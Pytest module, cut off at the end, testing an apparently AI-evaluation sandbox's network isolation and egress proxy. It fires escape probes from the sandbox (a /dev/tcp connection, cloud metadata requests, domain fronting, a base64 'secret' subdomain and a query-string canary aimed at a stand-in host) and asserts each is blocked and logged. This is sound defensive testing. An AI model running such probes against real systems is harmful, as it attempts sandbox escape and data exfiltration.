"""Per-sample networks on the real daemon: sidecars, the egress proxy, and what stays unreachable.

The "outside" is built here: a separate Docker network with upstream stand-ins `allowed.test` and
`blocked.test` that only the proxy can resolve. Every address targeted below belongs to a container,
network or listener this module creates.
"""

from __future__ import annotations

import contextlib
import ipaddress
import socket
import subprocess
import threading
import uuid
from collections.abc import Iterator
from typing import Any

import anyio
import pytest

from tierlock.sandbox._config import ServiceSpec
from tierlock.sandbox._errors import SandboxError
from tierlock.sandbox._evidence import ConformanceRecord, ProxyLog
from tierlock.sandbox._images import ensure_image
from tierlock.sandbox._labels import OWNER_LABEL, owner
from tierlock.sandbox._network import SampleNetwork, create_sample_network
from tierlock.sandbox._policy import Policy
from tierlock.sandbox._sidecars import PROXY_ALIAS

pytestmark = pytest.mark.docker

RUN = f"nettest-{uuid.uuid4().hex[:8]}"
# the owner label makes other live test sessions leave these objects alone (conftest's leak guard)
LABELS = {"tierlock.project": "tierlock", "tierlock.run": RUN, OWNER_LABEL: owner()}

UPSTREAM = """
import http.server, socketserver, ssl, subprocess, sys, threading
name = sys.argv[1]
subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
    "ec_paramgen_curve:prime256v1", "-nodes", "-days", "1", "-subj", f"/CN={name}",
    "-keyout", "/tmp/key.pem", "-out", "/tmp/cert.pem"], check=True, capture_output=True)
tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
tls.load_cert_chain("/tmp/cert.pem", "/tmp/key.pem")
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = f"hello from {name}:{self.server.server_address[1]}".encode()
        self.send_response(200); self.send_header("Content-Length", str(len(body)))
        self.end_headers(); self.wfile.write(body)
    def log_message(self, *a): pass
class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
servers = [S(("0.0.0.0", p), H) for p in (80, 443, 8080)]
servers[1].socket = tls.wrap_socket(servers[1].socket, server_side=True)  # 443 speaks TLS
for s in servers[1:]:
    threading.Thread(target=s.serve_forever, daemon=True).start()
servers[0].serve_forever()
"""

API = """
import http.server
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = open("/srv/api/answer.txt", "rb").read()
        self.send_response(200); self.send_header("Content-Length", str(len(body)))
        self.end_headers(); self.wfile.write(body)
    def log_message(self, *a): pass
http.server.HTTPServer(("0.0.0.0", 8000), H).serve_forever()
"""


def _policy(
    mode: str,
    allow: list[str] | None = None,
    services: list[str] | None = None,
    subdomains: list[str] | None = None,
) -> Policy:
    network = {"mode": mode, "allow": allow or [], "services": services or []}
    if subdomains is not None:
        network["allow_subdomains"] = subdomains
    return Policy.model_validate({"name": f"net-{mode}", "tier": "networked", "network": network})


def _api_service() -> ServiceSpec:
    return ServiceSpec(
        command=["python3", "/srv/api/server.py"],
        files={"/srv/api/server.py": API, "/srv/api/answer.txt": "api says 42"},
        port=8000,
    )


def _objects(client: Any, run: str = RUN) -> tuple[list[str], list[str]]:
    flt = {"label": f"tierlock.run={run}"}
    containers = [c.name for c in client.containers.list(all=True, filters=flt)]
    networks = [n.name for n in client.networks.list(filters=flt)]
    return containers, networks


@pytest.fixture(scope="module")
def base_image(docker_client: Any) -> str:
    return ensure_image(docker_client, "tierlock-base")


@pytest.fixture(scope="module")
def outside(docker_client: Any, base_image: str) -> Iterator[dict[str, Any]]:
    """A stand-in for the internet: a bridge network with `allowed.test` and `blocked.test`."""
    net = docker_client.networks.create(f"tltest-outside-{RUN}", driver="bridge", labels=LABELS)
    ups = {}
    try:
        for name in ("allowed.test", "blocked.test"):
            ups[name] = docker_client.containers.run(
                base_image,
                ["python3", "-c", UPSTREAM, name],
                name=f"tltest-{name.split('.')[0]}-{RUN}",
                labels=LABELS,
                network=net.name,
                networking_config={
                    net.name: docker_client.api.create_endpoint_config(
                        aliases=[name, f"api.{name}", f"c2VjcmV0.{name}"]
                    )
                },
                sysctls={"net.ipv4.ip_unprivileged_port_start": "0"},
                detach=True,
            )
        for c in ups.values():
            _wait_port(c, 8080)
        net.reload()
        ips = {n: c.attrs for n, c in ups.items()}
        for name, c in ups.items():
            c.reload()
            ips[name] = c.attrs["NetworkSettings"]["Networks"][net.name]["IPAddress"]
        gateway = net.attrs["IPAM"]["Config"][0]["Gateway"]
        yield {"network": net.name, "ips": ips, "gateway": gateway}
    finally:
        for c in ups.values():
            c.remove(force=True)
        net.remove()


def _wait_port(container: Any, port: int) -> None:
    for _ in range(100):
        _, out = container.exec_run(["cat", "/proc/net/tcp"])
        if f":{port:04X} 00000000:0000 0A" in out.decode():
            return
        anyio.run(anyio.sleep, 0.1)
    raise AssertionError(f"{container.name} never listened on {port}")


def _sandbox(client: Any, image: str, sample: SampleNetwork, name: str) -> Any:
    """A hardened sandbox container on the sample network, as the provider would create it."""
    return client.containers.run(
        image,
        ["sleep", "infinity"],
        name=f"tltest-sandbox-{name}-{RUN}",
        labels=LABELS,
        network=sample.network,
        environment=sample.env,
        user="1000:1000",
        read_only=True,
        cap_drop=["ALL"],
        security_opt=["no-new-privileges:true"],
        tmpfs={"/tmp": "size=16m"},
        init=True,
        detach=True,
    )


def sh(container: Any, cmd: str) -> tuple[int, str]:
    code, out = container.exec_run(["bash", "-c", cmd])
    return code, out.decode(errors="replace").strip()


def curl(container: Any, url: str, *extra: str) -> tuple[int, str]:
    """(curl exit code, `<http status> <body>`); exit 0 with a 403 means the proxy refused."""
    args = " ".join(extra)
    return sh(container, f"curl -sS -m 5 {args} -w ' %{{http_code}}' {url} 2>&1")


def direct_results(container: Any, urls: list[str]) -> dict[str, int]:
    """curl exit code per URL, all tried at once, bypassing the proxy (0 means it connected)."""
    script = "\n".join(
        f"(curl -s -o /dev/null -m 5 --noproxy '*' {u}; echo \"$? {u}\") &" for u in urls
    )
    _, out = sh(container, f"{script}\nwait")
    return {line.split(" ", 1)[1]: int(line.split(" ", 1)[0]) for line in out.splitlines()}


@pytest.fixture(scope="module")
def allowlist(docker_client: Any, base_image: str, outside: dict[str, Any]) -> Iterator[Any]:
    """Sample A: allowlist mode, allow `allowed.test`, one `api` sidecar, plus its sandbox."""
    policy = _policy("allowlist", ["allowed.test"], ["api"])
    sample = anyio.run(
        lambda: create_sample_network(
            docker_client,
            policy,
            {"api": _api_service()},
            {**LABELS, "tierlock.sample": "a"},
            egress_network=outside["network"],
            private_upstreams=True,
        )
    )
    box = None
    try:
        box = _sandbox(docker_client, base_image, sample, "a")
        yield sample, box
    finally:
        if box is not None:
            box.remove(force=True)
        anyio.run(sample.teardown)


@pytest.fixture(scope="module")
def other_sample(docker_client: Any, base_image: str) -> Iterator[Any]:
    """Sample B: internal mode with its own `api` sidecar, plus its sandbox."""
    policy = _policy("internal", services=["api"])
    sample = anyio.run(
        lambda: create_sample_network(
            docker_client, policy, {"api": _api_service()}, {**LABELS, "tierlock.sample": "b"}
        )
    )
    box = None
    try:
        box = _sandbox(docker_client, base_image, sample, "b")
        svc = docker_client.containers.get(sample.containers[0])
        ip = svc.attrs["NetworkSettings"]["Networks"][sample.network]["IPAddress"]
        yield sample, box, ip
    finally:
        if box is not None:
            box.remove(force=True)
        anyio.run(sample.teardown)


def _host_addresses() -> list[str]:
    """This machine's own IPv4 addresses (not loopback)."""
    out = subprocess.run(["ip", "-4", "-o", "addr"], capture_output=True, text=True).stdout
    addrs = [line.split()[3].split("/")[0] for line in out.splitlines() if " lo " not in line]
    return [a for a in addrs if not a.startswith("127.")]


@pytest.fixture
def host_listener() -> Iterator[int]:
    """A TCP service on every host address (what a sandbox must not reach)."""
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("0.0.0.0", 0))
    srv.listen(16)
    stop = threading.Event()

    def serve() -> None:
        srv.settimeout(0.2)
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                with contextlib.suppress(OSError):
                    conn.recv(4096)  # the request: unread data would turn close into a reset
                    conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 4\r\n\r\nhost")
                    conn.shutdown(socket.SHUT_WR)

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    yield srv.getsockname()[1]
    stop.set()
    t.join()
    srv.close()


def test_sidecar_reachable_by_name(allowlist: Any) -> None:
    _, box = allowlist
    code, out = curl(box, "http://api:8000/")
    assert code == 0 and out == "api says 42 200", out


def test_sandbox_gets_proxy_env_and_only_the_sample_network(allowlist: Any) -> None:
    sample, box = allowlist
    box.reload()
    assert set(box.attrs["NetworkSettings"]["Networks"]) == {sample.network}
    _, env = sh(box, "env")
    assert f"HTTPS_PROXY=http://{PROXY_ALIAS}:3128" in env.splitlines()
    assert "NO_PROXY=localhost,127.0.0.1,::1,api" in env.splitlines()


def test_allowed_domain_answers_through_proxy(allowlist: Any) -> None:
    _, box = allowlist
    assert curl(box, "http://allowed.test/") == (0, "hello from allowed.test:80 200")
    # HTTPS goes out through a CONNECT tunnel the proxy passes through untouched (curl -k:
    # the stand-in's certificate is self-signed; the proxy never presents its own)
    code, out = curl(box, "https://allowed.test/", "-k")
    assert code == 0 and out == "hello from allowed.test:443 200", out


def test_refused_domain_is_refused_and_logged(allowlist: Any) -> None:
    sample, box = allowlist
    assert curl(box, "http://blocked.test/")[1].endswith(" 403")
    code, out = curl(box, "http://blocked.test:443/", "-p")  # CONNECT refused
    assert code != 0, out
    # HTTPS: the refusal comes as squid's error page inside the (never forwarded) tunnel
    code, out = curl(box, "https://blocked.test/", "-k")
    assert code == 0 and out.endswith(" 403") and "hello" not in out, out
    records = anyio.run(sample.evidence)
    log = next(r for r in records if isinstance(r, ProxyLog))
    seen = {(r.method, r.host, r.port, r.allowed) for r in log.requests}
    assert ("GET", "blocked.test", 80, False) in seen
    assert ("CONNECT", "blocked.test", 443, False) in seen
    assert ("GET", "allowed.test", 80, True) in seen
    allowed = next(r for r in log.requests if r.host == "allowed.test" and r.method == "GET")
    assert allowed.status == 200 and allowed.bytes > 0 and allowed.time > 1.7e9


def test_tls_tunnel_must_name_an_allowed_server(allowlist: Any) -> None:
    """A tunnel to an allowed host whose TLS hello names another server (SNI; domain fronting),
    or that does not speak TLS at all, is cut and logged as refused."""
    sample, box = allowlist
    fronted = "--connect-to blocked.test:443:allowed.test:443"  # CONNECT allowed, SNI blocked
    assert curl(box, "https://blocked.test/", "-k", fronted)[0] != 0
    assert curl(box, "http://allowed.test:443/", "-p")[0] != 0  # plain bytes through CONNECT
    records = anyio.run(sample.evidence)
    log = next(r for r in records if isinstance(r, ProxyLog))
    tunnels = [r for r in log.requests if r.method == "CONNECT" and r.host == "allowed.test"]
    assert any(not r.allowed and r.url.endswith("sni=blocked.test") for r in tunnels)
    assert sum(not r.allowed and "sni=" not in r.url for r in tunnels) >= 1


def test_non_listed_port_fails(allowlist: Any) -> None:
    _, box = allowlist
    assert curl(box, "http://allowed.test:8080/")[1].endswith(" 403")
    assert curl(box, "http://allowed.test:8080/", "-p")[0] != 0
    assert curl(box, "http://allowed.test:8080/", "--noproxy '*'")[0] != 0


def test_direct_ip_connection_fails(allowlist: Any, outside: dict[str, Any]) -> None:
    _, box = allowlist
    ip = outside["ips"]["allowed.test"]
    code, out = curl(box, f"http://{ip}/", "--noproxy '*'")
    assert code != 0, out  # no route out of the internal network
    assert curl(box, f"http://{ip}/")[1].endswith(" 403")  # the proxy refuses IP literals
    code, out = sh(box, f"timeout 5 bash -c 'exec 3<>/dev/tcp/{ip}/80' 2>&1")
    assert code != 0, out


def test_dns_lookup_of_outside_name_fails(
    docker_client: Any, allowlist: Any, other_sample: Any
) -> None:
    sample, box = allowlist
    box_b = other_sample[1]
    # both sandboxes at once: an unresolvable name costs the resolver's full timeout
    results: dict[str, tuple[int, str]] = {}
    threads = [
        threading.Thread(
            target=lambda b=b, k=k: results.update({k: sh(b, "getent hosts allowed.test")})
        )
        for k, b in (("a", box), ("b", box_b))
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert results["a"][0] != 0 and results["b"][0] != 0, results
    # ...while the proxy, on the egress network, does resolve it (the test can fail)
    pc = docker_client.containers.get(sample._state.proxy)
    code, out = pc.exec_run(["getent", "hosts", "allowed.test"])
    assert code == 0, out
    # and each sandbox resolves its own sidecar
    assert sh(box, "getent hosts api")[0] == 0


def test_other_samples_service_unreachable(allowlist: Any, other_sample: Any) -> None:
    _, box = allowlist
    _, box_b, ip_b = other_sample
    assert curl(box_b, "http://api:8000/") == (0, "api says 42 200")  # control: B reaches it
    assert direct_results(box, [f"http://{ip_b}:8000/"])[f"http://{ip_b}:8000/"] != 0
    assert curl(box, f"http://{ip_b}:8000/")[1].endswith(" 403")


def test_host_gateway_and_metadata_unreachable(
    docker_client: Any,
    allowlist: Any,
    other_sample: Any,
    outside: dict[str, Any],
    host_listener: int,
) -> None:
    sample, box = allowlist
    _, box_b, _ = other_sample
    port = host_listener
    # Control: from an ordinary bridge the listener answers on the outside network's gateway.
    probe = docker_client.containers.run(
        allowlist[1].image.id,
        ["curl", "-sS", "-m", "5", f"http://{outside['gateway']}:{port}/"],
        labels=LABELS,
        network=outside["network"],
        detach=True,
    )
    try:
        probe.wait(timeout=30)
        assert probe.logs().decode().strip() == "host"
    finally:
        probe.remove(force=True)
    bridge = docker_client.networks.get("bridge").attrs["IPAM"]["Config"][0]
    bridge_ip = bridge.get("Gateway") or str(ipaddress.ip_network(bridge["Subnet"])[1])
    for net_name, sandbox in ((sample.network, box), (other_sample[0].network, box_b)):
        gw = docker_client.networks.get(net_name).attrs["IPAM"]["Config"][0]["Gateway"]
        addrs = {gw, bridge_ip, outside["gateway"], *_host_addresses()}
        urls = [f"http://{a}:{port}/" for a in sorted(addrs)]
        urls.append("http://169.254.169.254/")
        results = direct_results(sandbox, urls)
        assert set(results) == set(urls)
        assert all(code != 0 for code in results.values()), (net_name, results)
    # nor through the proxy: the egress gateway (the host) and metadata addresses are refused
    assert curl(box, f"http://{outside['gateway']}:{port}/")[1].endswith(" 403")
    assert curl(box, "http://169.254.169.254/")[1].endswith(" 403")


def test_sidecars_hardened_and_conformant(docker_client: Any, allowlist: Any) -> None:
    sample, _ = allowlist
    records = anyio.run(sample.evidence)
    conf = [r for r in records if isinstance(r, ConformanceRecord)]
    assert {r.role for r in conf} == {"network", "service:api", "proxy"}
    assert all(r.ok for r in conf)
    for cid in sample.containers:
        hc = docker_client.api.inspect_container(cid)["HostConfig"]
        assert hc["ReadonlyRootfs"] and hc["CapDrop"] == ["ALL"]
        assert any(o.startswith("no-new-privileges") for o in hc["SecurityOpt"])
        assert hc["PidsLimit"] and hc["Memory"]
    proxy = docker_client.containers.get(sample._state.proxy)
    _, out = proxy.exec_run(["cat", "/proc/sys/net/ipv4/ip_forward"])
    assert out.decode().strip() == "0"


def test_wildcard_reaches_only_the_listed_subdomains(
    docker_client: Any, base_image: str, outside: dict[str, Any]
) -> None:
    """`*.allowed.test` with `allow_subdomains: [api]`: api.allowed.test answers, a name of the
    model's choosing under the same domain (a DNS channel out) is refused and on the record."""
    policy = _policy("allowlist", ["*.allowed.test"], subdomains=["api"])
    labels = {**LABELS, "tierlock.sample": "subdomains"}
    sample = anyio.run(
        lambda: create_sample_network(
            docker_client, policy, {}, labels, egress_network=outside["network"],
            private_upstreams=True,
        )
    )  # fmt: skip
    box = None
    try:
        box = _sandbox(docker_client, base_image, sample, "subdomains")
        assert curl(box, "http://api.allowed.test/") == (0, "hello from allowed.test:80 200")
        assert curl(box, "http://c2VjcmV0.allowed.test/")[1].endswith(" 403")
        assert curl(box, "http://allowed.test/")[1].endswith(" 403")  # not listed either
        code, out = curl(box, "https://c2VjcmV0.allowed.test/", "-k")
        assert "hello" not in out, (code, out)  # refused inside the never-forwarded tunnel
        records = anyio.run(sample.evidence)
        log = next(r for r in records if isinstance(r, ProxyLog))
        seen = {(r.method, r.host, r.allowed) for r in log.requests}
        assert ("GET", "api.allowed.test", True) in seen
        assert ("GET", "c2vjcmv0.allowed.test", False) in seen or (
            "GET",
            "c2VjcmV0.allowed.test",
            False,
        ) in seen
        assert not any(r.allowed for r in log.requests if "c2" in r.host.lower())
    finally:
        if box is not None:
            box.remove(force=True)
        anyio.run(sample.teardown)


def test_private_upstreams_refused_by_default(
    docker_client: Any, base_image: str, outside: dict[str, Any]
) -> None:
    """Real runs: an allowed name that resolves to a private address is refused (rebinding)."""
    policy = _policy("allowlist", ["allowed.test"])
    labels = {**LABELS, "tierlock.sample": "private"}
    sample = anyio.run(
        lambda: create_sample_network(
            docker_client, policy, {}, labels, egress_network=outside["network"]
        )
    )
    box = None
    try:
        box = _sandbox(docker_client, base_image, sample, "private")
        assert curl(box, "http://allowed.test/")[1].endswith(" 403")
    finally:
        if box is not None:
            box.remove(force=True)
        anyio.run(sample.teardown)


def test_teardown_removes_sidecars_and_networks(
    docker_client: Any, outside: dict[str, Any]
) -> None:
    run = f"{RUN}-td"
    policy = _policy("allowlist", ["allowed.test"], ["api", "loose"])
    loose = ServiceSpec(command=["sleep", "infinity"], harden=False)
    sample = anyio.run(
        lambda: create_sample_network(
            docker_client,
            policy,
            {"api": _api_service(), "loose": loose},
            {**LABELS, "tierlock.run": run},
            egress_network=outside["network"],
        )
    )
    containers, networks = _objects(docker_client, run)
    assert len(containers) == 3 and networks == [sample.network]
    # `harden: false` is the task's explicit choice: default Docker settings, same limits
    loose_hc = docker_client.api.inspect_container(f"tierlock-svc-loose-{sample.network[-12:]}")
    assert not loose_hc["HostConfig"]["ReadonlyRootfs"] and loose_hc["HostConfig"]["PidsLimit"]
    anyio.run(sample.teardown)
    anyio.run(sample.teardown)  # idempotent
    assert _objects(docker_client, run) == ([], [])
    assert any(isinstance(r, ProxyLog) for r in anyio.run(sample.evidence))


@pytest.mark.parametrize(
    "service",
    [
        ServiceSpec(command=["sh", "-c", "exit 3"], port=8000),  # dies before listening
        ServiceSpec(image="tierlock-no-such-image:x", command=["true"]),  # cannot be created
    ],
    ids=["exits", "missing-image"],
)
def test_failed_setup_leaves_nothing(
    docker_client: Any, outside: dict[str, Any], service: ServiceSpec
) -> None:
    run = f"{RUN}-fail-{uuid.uuid4().hex[:4]}"
    policy = _policy("allowlist", ["allowed.test"], ["ok", "bad"])
    services = {"ok": _api_service(), "bad": service}
    with pytest.raises(SandboxError):
        anyio.run(
            lambda: create_sample_network(
                docker_client,
                policy,
                services,
                {**LABELS, "tierlock.run": run},
                egress_network=outside["network"],
                ready_timeout=10,
            )
        )
    assert _objects(docker_client, run) == ([], [])


def test_unlisted_service_refused(docker_client: Any) -> None:
    policy = _policy("internal", services=[])
    with pytest.raises(SandboxError, match="not listed"):
        anyio.run(
            lambda: create_sample_network(docker_client, policy, {"api": _api_service()}, LABELS)
        )


def test_eval_through_provider_logs_proxy_requests(
    docker_client: Any, outside: dict[str, Any], monkeypatch: pytest.MonkeyPatch, tmp_path: Any
) -> None:
    """End to end: an Inspect eval under the shipped networked policy, through the provider."""
    from inspect_ai import Task, eval
    from inspect_ai.dataset import Sample
    from inspect_ai.log import read_eval_log
    from inspect_ai.model import ModelOutput, ModelUsage, get_model
    from inspect_ai.solver import generate, use_tools
    from inspect_ai.tool import bash

    from tierlock.sandbox._config import SandboxConfig
    from tierlock.sandbox._labels import run_id

    class Config(SandboxConfig):
        def __hash__(self) -> int:
            return hash(self.model_dump_json())

    monkeypatch.setenv("TIERLOCK_EGRESS_NETWORK", outside["network"])
    monkeypatch.setenv("TIERLOCK_PROXY_PRIVATE_UPSTREAMS", "1")
    commands = [
        "curl -sS -m 5 http://allowed.test/",
        "curl -sS -m 5 -o /dev/null -w '%{http_code}' http://blocked.test/",
        "curl -sS -m 5 http://api:8000/",
    ]
    outputs = [
        ModelOutput.for_tool_call("mockllm/model", "bash", {"command": c}) for c in commands
    ] + [ModelOutput.from_content("mockllm/model", "done")]
    for out in outputs:
        out.usage = ModelUsage(input_tokens=1, output_tokens=1, total_tokens=2)
    task = Task(
        dataset=[Sample(input="fetch", id="net-e2e")],
        solver=[use_tools(bash(timeout=30)), generate()],
        sandbox=(
            "tierlock",
            Config(policy="policies/networked.yaml", services={"api": _api_service()}),
        ),
    )
    [log] = eval(
        task,
        model=get_model("mockllm/model", custom_outputs=outputs),
        log_dir=str(tmp_path),
        display="none",
    )
    log = read_eval_log(log.location)
    assert log.status == "success", log.error
    [sample] = log.samples or []
    results = [str(e.result) for e in sample.events if e.event == "tool"]
    assert "hello from allowed.test:80" in results[0]
    assert "403" in results[1]
    assert "api says 42" in results[2]
    records = [
        e.data
        for e in sample.events
        if e.event == "info" and e.source == "tierlock" and isinstance(e.data, dict)
    ]
    [proxy_log] = [r for r in records if r["kind"] == "proxy_log"]
    seen = {(r["host"], r["allowed"]) for r in proxy_log["requests"]}
    assert seen == {("allowed.test", True), ("blocked.test", False)}
    roles = {r["role"] for r in records if r["kind"] == "conformance"}
    assert {"default", "network", "service:api", "proxy"} <= roles
    # the sidecars' own evidence reaches the transcript next to the sandbox's
    containers = {r["role"]: r for r in records if r["kind"] == "container"}
    assert set(containers) == {"default", "service:api", "proxy"}
    assert not any(r["oom_killed"] or r["changes_outside_writable"] for r in containers.values())
    assert proxy_log["truncated"] is False and proxy_log["dropped"] == 0
    assert _objects(docker_client, run_id()) == ([], [])


def test_refused_names_are_never_resolved(
    docker_client: Any, base_image: str, outside: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A refused name never reaches a DNS server (no exfiltration through lookups). squid's DNS
    debug output shows every query it sends; the rules themselves are the generated ones."""
    import tierlock.sandbox._egress_proxy as egress_proxy

    real = egress_proxy.squid_config
    monkeypatch.setattr(
        egress_proxy, "squid_config", lambda *a, **k: real(*a, **k) + "debug_options ALL,1 78,3\n"
    )
    sample = anyio.run(
        lambda: create_sample_network(
            docker_client,
            _policy("allowlist", ["allowed.test"]),
            {},
            {**LABELS, "tierlock.sample": "dns"},
            egress_network=outside["network"],
            private_upstreams=True,
        )
    )
    box = None
    try:
        box = _sandbox(docker_client, base_image, sample, "dns")
        assert curl(box, "http://allowed.test/")[1].endswith(" 200")
        for url in ("http://c4n4ry-s3cret.blocked.test/", "http://blocked.test:443/"):
            assert curl(box, url)[1].endswith(" 403")
        assert curl(box, "http://c4n4ry-s3cret.blocked.test:443/", "-p")[0] != 0
        stderr = docker_client.api.logs(sample._state.proxy, stdout=False).decode()
        queries = [ln for ln in stderr.splitlines() if "idnsALookup" in ln]
        assert any("allowed.test" in q for q in queries)  # control: the debug output works
        assert not any("blocked" in q or "c4n4ry" in q for q in queries), queries
    finally:
        if box is not None:
            box.remove(force=True)
        anyio.run(sample.teardown)


def test_sample_subnets_from_configured_pool(
    docker_client: Any, base_image: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`$TIERLOCK_SAMPLE_SUBNETS`: each sample network takes a free /28 of the range; when
    none is left the sample fails with one line and leaves nothing behind."""
    monkeypatch.setenv("TIERLOCK_SAMPLE_SUBNETS", "10.213.77.0/28")  # room for exactly one
    run = f"{RUN}-pool"
    policy = _policy("internal", services=["api"])
    labels = {**LABELS, "tierlock.run": run}
    sample = anyio.run(
        lambda: create_sample_network(docker_client, policy, {"api": _api_service()}, labels)
    )
    box = None
    try:
        ipam = docker_client.api.inspect_network(sample.network)["IPAM"]["Config"]
        assert [c["Subnet"] for c in ipam] == ["10.213.77.0/28"]
        box = _sandbox(docker_client, base_image, sample, "pool")
        assert curl(box, "http://api:8000/") == (0, "api says 42 200")
        with pytest.raises(SandboxError, match="no free /28"):
            anyio.run(lambda: create_sample_network(docker_client, policy, {}, labels))
    finally:
        if box is not None:
            box.remove(force=True)
        anyio.run(sample.teardown)
    assert _objects(docker_client, run) == ([], [])


SECCOMP_DIR = __import__("pathlib").Path(__file__).resolve().parent / "data" / "sandbox"


def _status(container: Any) -> dict[str, str]:
    _, out = container.exec_run(["cat", "/proc/1/status"])
    return {k: v.strip() for k, _, v in (ln.partition(":") for ln in out.decode().splitlines())}


def test_sidecars_take_the_policys_hardening(
    docker_client: Any, base_image: str, outside: dict[str, Any]
) -> None:
    """Service and proxy apply the policy's own seccomp profile (relative to the policy's
    directory; it refuses mkdir), its pids/memory limits (the service) and the sandbox's
    kernel hardening; the conformance check reads all of it back, kernel included."""
    policy = Policy.model_validate(
        {
            "name": "net-seccomp",
            "tier": "networked",
            "network": {"mode": "allowlist", "allow": ["allowed.test"], "services": ["api"]},
            "process": {"seccomp": "no-mkdir.seccomp.json"},
            "limits": {"memory": "200m", "pids": 77},
        }
    )
    labels = {**LABELS, "tierlock.sample": "seccomp"}
    sample = anyio.run(
        lambda: create_sample_network(
            docker_client,
            policy,
            {"api": _api_service()},
            labels,
            egress_network=outside["network"],
            private_upstreams=True,
            policy_dir=SECCOMP_DIR,
        )
    )
    box = None
    try:
        conf = [r for r in anyio.run(sample.evidence) if isinstance(r, ConformanceRecord)]
        assert {r.role for r in conf} == {"network", "service:api", "proxy"}
        assert all(r.ok for r in conf), conf
        roles = {}
        for cid in sample.containers:
            c = docker_client.containers.get(cid)
            roles[c.labels["tierlock.role"]] = c
            status = _status(c)
            assert status["CapEff"] == "0000000000000000", (c.name, status["CapEff"])
            assert status["NoNewPrivs"] == "1" and status["Seccomp"] == "2"
            hc = c.attrs["HostConfig"]
            assert hc["ReadonlyRootfs"] and hc["IpcMode"] == "none"
            code, out = c.exec_run(["sh", "-c", "touch /rootfile"])
            assert code != 0 and "Read-only file system" in out.decode(), out
            # the policy's profile: mkdir refused even where writing is allowed
            code, out = c.exec_run(["mkdir", "/tmp/d"])
            assert code != 0 and "Operation not permitted" in out.decode(), out
            assert c.exec_run(["sh", "-c", "echo ok > /tmp/f && cat /tmp/f"]).output == b"ok\n"
        api = roles["service:api"].attrs["HostConfig"]
        assert api["PidsLimit"] == 77 and api["Memory"] == 200 * 1024**2
        proxy = roles["proxy"].attrs["HostConfig"]
        assert proxy["PidsLimit"] and proxy["Memory"]
        assert roles["proxy"].attrs["Config"]["User"] == "13:13"
        box = _sandbox(docker_client, base_image, sample, "seccomp")
        assert curl(box, "http://api:8000/") == (0, "api says 42 200")
        assert curl(box, "http://allowed.test/")[1].endswith(" 200")
    finally:
        if box is not None:
            box.remove(force=True)
        anyio.run(sample.teardown)


def test_sidecar_evidence_oom_exit_and_changes(docker_client: Any) -> None:
    """Each sidecar's `ContainerEvidence` (role `service:<name>`): the OOM killer, the exit
    state, and files changed outside the writable paths (only possible unhardened)."""
    from tierlock.sandbox._evidence import ContainerEvidence

    run = f"{RUN}-ev"
    policy = Policy.model_validate(
        {
            "name": "net-evidence",
            "tier": "networked",
            "network": {"mode": "internal", "services": ["api", "hog", "oneshot", "loose"]},
            "limits": {"memory": "64m", "pids": 64},
        }
    )
    hog = "python3 -c 'bytearray(256 * 1024 * 1024)'; exec sleep 600"
    services = {
        "api": _api_service(),
        "hog": ServiceSpec(command=["sh", "-c", hog]),
        "oneshot": ServiceSpec(command=["sh", "-c", "exit 3"]),
        "loose": ServiceSpec(
            command=["sh", "-c", "echo x > /var/tmp/marker && exec sleep 600"], harden=False
        ),
    }
    sample = anyio.run(
        lambda: create_sample_network(
            docker_client, policy, services, {**LABELS, "tierlock.run": run}
        )
    )
    try:
        for _ in range(100):  # the hog's allocation and the one-shot's exit take a moment
            states = {
                c.labels["tierlock.role"]: c.attrs["State"]
                for c in (docker_client.containers.get(cid) for cid in sample.containers)
            }
            if (
                not states["service:oneshot"]["Running"]
                and docker_client.containers.get(f"tierlock-svc-loose-{sample.network[-12:]}")
                .exec_run(["test", "-f", "/var/tmp/marker"])
                .exit_code
                == 0
            ):
                break
            anyio.run(anyio.sleep, 0.1)
        # the hog's python is killed by the OOM killer (sh and sleep keep the container up)
        for _ in range(100):
            evidence = {
                r.role: r for r in anyio.run(sample.evidence) if isinstance(r, ContainerEvidence)
            }
            if evidence["service:hog"].oom_killed:
                break
            anyio.run(anyio.sleep, 0.1)
    finally:
        anyio.run(sample.teardown)
    assert set(evidence) == {"service:api", "service:hog", "service:oneshot", "service:loose"}
    api, hog_ev = evidence["service:api"], evidence["service:hog"]
    assert api.running and not api.oom_killed and api.exit_code is None
    assert api.changes_outside_writable == [] and api.pids_limit == 64
    assert api.policy_hash == policy.digest()
    assert hog_ev.oom_killed and hog_ev.running
    oneshot = evidence["service:oneshot"]
    assert not oneshot.running and oneshot.exit_code == 3
    changed = {c.path for c in evidence["service:loose"].changes_outside_writable}
    assert "/var/tmp/marker" in changed
    # captured again at teardown (a caller that never asked still gets it afterwards)
    after = [r for r in anyio.run(sample.evidence) if isinstance(r, ContainerEvidence)]
    assert {r.role for r in after} == set(evidence)
    assert _objects(docker_client, run) == ([], [])


def test_query_string_canary_is_logged(allowlist: Any) -> None:
    """`strip_query_terms off`: a canary in a refused request's query string is on the record."""
    sample, box = allowlist
    canary = f"c4n4ry-{uuid.uuid4().hex[:8]}"
    assert curl(box, f"'http://blocked.test/x?data={canary}'")[1].endswith(" 403")
    [log] = [r for r in anyio.run(sample.evidence) if isinstance(r, ProxyLog)]
    hits = [r for r in log.requests if canary in r.url]
    assert len(hits) == 1 and hits[0].host == "blocked.test" and not hits[0].allowed
    assert hits[0].url.endswith(f"/x?data={canary}")


def test_proxy_log_is_bounded(
    docker_client: Any, base_image: str, outside: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A chatty sample: only the head and tail of the log are read, the rest counted."""
    import tierlock.sandbox._proxylog as proxylog

    monkeypatch.setattr(proxylog, "PROXY_LOG_MAX_BYTES", 8 * 1024)
    sample = anyio.run(
        lambda: create_sample_network(
            docker_client,
            _policy("allowlist", ["allowed.test"]),
            {},
            {**LABELS, "tierlock.sample": "chatty"},
            egress_network=outside["network"],
